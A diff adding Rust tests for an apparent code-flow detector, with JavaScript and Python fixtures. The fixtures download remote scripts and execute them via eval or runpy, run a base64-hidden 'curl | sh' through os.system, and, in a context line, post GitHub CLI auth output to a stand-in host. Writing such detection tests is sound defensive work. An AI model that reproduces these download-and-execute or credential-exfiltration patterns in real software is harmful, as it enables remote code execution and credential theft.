@@ -1207,3 +1207,59 @@ fn a_cli_asked_for_its_login_token_hands_over_a_credential() {
     let status = "import subprocess, requests\nwho = subprocess.check_output(['gh', 'auth', 'status'], text=True)\nrequests.post('https://collector.example.invalid/t', data=who)\n";
     assert!(py(status).is_empty(), "{:?}", py(status));
 }
+
+#[test]
+fn a_runner_handed_to_a_function_that_calls_its_parameter_runs_the_rest() {
+    let text = concat!(
+        "const https = require('https');\n",
+        "const apply = (fn, ...rest) => fn(...rest);\n",
+        "https.get('https://cdn.example.invalid/next.js', res => {\n",
+        "  let body = '';\n",
+        "  res.on('data', c => body += c);\n",
+        "  res.on('end', () => apply(globalThis.eval, body));\n",
+        "});\n",
+    );
+    assert_eq!(kinds_js(text), [FlowKind::DownloadToExec]);
+    let text = concat!(
+        "import os, base64\n",
+        "def invoke(fn, *args):\n",
+        "    return fn(*args)\n",
+        "invoke(os.system, base64.b64decode('Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC40L3ggfCBzaA==').decode())\n",
+    );
+    assert_eq!(kinds_py(text), [FlowKind::DecodedToExec]);
+}
+
+#[test]
+fn a_function_that_calls_its_parameter_with_a_harmless_callee_is_no_flow() {
+    let text = concat!(
+        "const https = require('https');\n",
+        "const apply = (fn, ...rest) => fn(...rest);\n",
+        "https.get('https://cdn.example.invalid/data.json', res => {\n",
+        "  let body = '';\n",
+        "  res.on('data', c => body += c);\n",
+        "  res.on('end', () => apply(JSON.parse, body));\n",
+        "});\n",
+    );
+    assert!(kinds_js(text).is_empty(), "{:?}", js(text));
+}
+
+#[test]
+fn a_bound_copy_of_eval_runs_a_download_and_a_downloaded_file_run_by_runpy_is_run() {
+    let text = concat!(
+        "const go = Function.prototype.call.bind(eval, null);\n",
+        "fetch('https://cdn.example.invalid/x.js').then((r) => r.text()).then((t) => go(t));\n",
+    );
+    assert_eq!(kinds_js(text), [FlowKind::DownloadToExec]);
+    let text = concat!(
+        "const show = console.log.bind(console);\n",
+        "fetch('https://cdn.example.invalid/x.js').then((r) => r.text()).then((t) => show(t));\n",
+    );
+    assert!(kinds_js(text).is_empty(), "{:?}", js(text));
+    let text = concat!(
+        "import os, runpy, tempfile, urllib.request\n",
+        "p = os.path.join(tempfile.gettempdir(), 'x.py')\n",
+        "urllib.request.urlretrieve('https://cdn.example.invalid/x.py', p)\n",
+        "runpy.run_path(p)\n",
+    );
+    assert_eq!(kinds_py(text), [FlowKind::DownloadToExec]);
+}
